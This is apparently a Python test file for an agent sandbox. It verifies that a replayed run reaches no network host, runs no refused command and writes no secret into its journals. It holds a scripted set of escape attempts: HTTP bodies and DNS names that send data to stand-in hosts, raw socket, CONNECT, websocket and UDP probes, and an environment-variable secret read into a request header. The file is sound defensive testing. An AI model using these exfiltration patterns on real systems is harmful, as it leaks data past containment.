"""An agent that is played again and does all it can to reach somebody. Nobody is reached."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest

from paddock.doors.machine.engine import Engine
from paddock.doors.trust import GIVEN
from paddock.gate.run_gate import signing_key
from paddock.journal.integrity.verify import verify
from paddock.journal.log import RunLog
from paddock.model.errors import InvalidInput
from paddock.run.replay.fork import ForkOptions, fork
from paddock.run.replay.replay import PastOptions, replay
from paddock.state.revocations import revoke
from security.run.conftest import GET, KEPT, SECRETS, VALUE, Stand, said, steps

ATTACKS = (
    GET
    + r"""
import os, socket
def attack(name, deed):
    try:
        print(name, "GOT", deed(), flush=True)
    except Exception as error:
        print(name, "failed", type(error).__name__, flush=True)
def get(url, data=None):
    return urllib.request.urlopen(url, data=data, timeout=5).read()
def speak(host, port, text):
    with socket.create_connection((host, port), 2) as sock:
        sock.settimeout(2)
        sock.sendall(text.encode())
        answer = sock.recv(1000)
        # The door's own refusal is an answer too.
        return answer if answer and b" 4" not in answer[:16] else 1 / 0
def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.5)
        sock.sendto(b"x", ("8.8.8.8", 53))
        return sock.recv(100)
attack("path", lambda: get("http://api.example/two"))
attack("body", lambda: get("http://api.example/one", b"leak"))
attack("again", lambda: get("http://api.example/one"))
attack("port", lambda: get("http://api.example:8080/one"))
attack("closed port", lambda: get("http://api.example:8081/one"))
attack("raw", lambda: speak("raw.example", 5432, "hello"))
attack("connect", lambda: speak("api.example", 80,
    "CONNECT api.example:80 HTTP/1.1\r\nHost: x\r\n\r\n"))
attack("websocket", lambda: speak("api.example", 80, "GET /ws HTTP/1.1\r\nHost: api.example\r\n"
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"))
attack("name", lambda: socket.gethostbyname("leaked-data.raw.example"))
attack("stand-in", lambda: get("http://api.stripe.com/v1/customers"))
attack("udp", datagram)
attack("address", lambda: speak("127.0.0.1", int(open("port").read()), "GET / HTTP/1.0\r\n\r\n"))
print("over")
"""
)


def test_an_agent_that_goes_on_after_it_left_its_record_reaches_nobody(stand: Stand) -> None:
    (stand.project / "port").write_text(stand.server.place.rpartition(":")[2])
    recorded = stand.record(GET)
    stand.plan(ATTACKS)
    ended = replay(recorded.directory, on_divergence="block", past=PastOptions(patience_s=0.5))
    told = said(ended)
    assert ended.divergence is not None and "over" in told
    assert " GOT " not in told
    assert stand.server.connections == 0 and not stand.server.heard
    new = [step for step in steps(ended, "http").values() if not step[2]]
    assert new and all(step[:2] == ("block", "refused") for step in new)


def test_a_replay_stops_the_agent_where_it_leaves_its_record(stand: Stand) -> None:
    recorded = stand.record(GET)
    stand.plan(ATTACKS)
    ended = replay(recorded.directory, past=PastOptions(patience_s=0.5))
    assert ended.divergence is not None and "over" not in said(ended)
    assert stand.server.connections == 0


def test_a_replay_has_the_recorded_placeholder_and_needs_no_value(
    stand: Stand, monkeypatch: pytest.MonkeyPatch
) -> None:
    recorded = stand.record(f"{GET}import os\nprint(os.environ['API_KEY'])\n")
    monkeypatch.delenv("ATTACK_TEST_KEY")
    ended = replay(recorded.directory)
    assert ended.divergence is None
    assert "paddock_API_KEY_" in said(ended) and said(ended) == said(recorded)


def test_a_secret_that_was_revoked_since_is_not_missed_in_a_replay(
    stand: Stand, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A revocation reaches every process of a home, other tests among them.
    monkeypatch.setenv("PADDOCK_HOME", tempfile.mkdtemp(prefix="pdk-"))
    recorded = stand.record(KEPT)
    revoke(Engine.current().home, "API_KEY")
    ended = replay(recorded.directory)
    assert ended.divergence is None and said(ended) == said(recorded)
    assert stand.server.connections == 0


def test_a_command_that_is_refused_does_not_run_from_the_next_directory(stand: Stand) -> None:
    """A program is looked for in one directory after the other, and /bin is /usr/bin."""
    recorded = stand.record("print('nothing')")
    stand.plan(
        "import subprocess\n"
        "try:\n    print('RAN', subprocess.run(['id'], capture_output=True).stdout)\n"
        "except OSError as error:\n    print(error)\n"
    )
    ended = replay(recorded.directory, on_divergence="block", past=PastOptions(patience_s=0.5))
    assert "RAN" not in said(ended) and "denied" in said(ended)
    new = [step for step in steps(ended, "exec").values() if not step[2]]
    assert new and all(step[:2] == ("block", "refused") for step in new)


def test_what_was_written_through_a_mount_is_not_written_again(
    stand: Stand, tmp_path: Path
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    terms = (
        f"{stand.terms}sandbox:\n  mounts: [{{source: {shared}, target: /mnt/s, mode: write}}]\n"
    )
    recorded = stand.record(f"open('/mnt/s/log', 'a').write('once')\n{GET}", terms)
    with pytest.raises(InvalidInput, match="/mnt/s: mounted for writing"):
        replay(recorded.directory, trust=GIVEN)
    with pytest.raises(InvalidInput, match="/mnt/s: mounted for writing"):
        fork(recorded.directory, ForkOptions(at=2), trust=GIVEN)
    assert (shared / "log").read_text() == "once"


def test_each_step_that_comes_again_says_so_and_the_journal_verifies(stand: Stand) -> None:
    recorded = stand.record(GET)
    again = replay(recorded.directory)
    future = fork(recorded.directory, ForkOptions(at=2))[0]
    key = signing_key(Engine.current().home).public
    assert all(step[2] for kind in ("exec", "http") for step in steps(again, kind).values())
    assert not any(step[2] for step in steps(future, "http").values())
    assert verify(again.directory, key).ok and verify(future.directory, key).ok


def test_no_journal_of_a_lineage_has_the_value_of_a_secret(stand: Stand) -> None:
    asking = "__import__('os').environ['API_KEY']"
    request = (
        f"urllib.request.Request('http://api.example/', headers={{'authorization': {asking}}})"
    )
    with_key = GET.replace("'http://api.example/one'", request)
    recorded = stand.record(with_key, stand.terms + SECRETS)
    again, future = replay(recorded.directory), fork(recorded.directory, ForkOptions(at=2))[0]
    assert VALUE.encode() in stand.server.heard  # the fork went out with it
    for ended in (recorded, again, future):
        whole = b"".join(one.read_bytes() for one in ended.directory.rglob("*") if one.is_file())
        assert VALUE.encode() not in whole
        assert list(RunLog(ended.directory).events())
